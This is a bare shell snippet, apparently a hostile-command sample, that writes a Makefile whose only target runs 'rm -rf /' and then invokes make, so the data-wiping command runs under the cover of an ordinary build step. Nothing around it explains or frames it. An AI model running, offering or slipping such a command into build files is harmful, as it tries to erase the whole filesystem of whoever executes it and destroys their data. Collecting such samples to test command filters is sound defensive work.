cat > Makefile <<'X'
all:
	rm -rf /
X
make
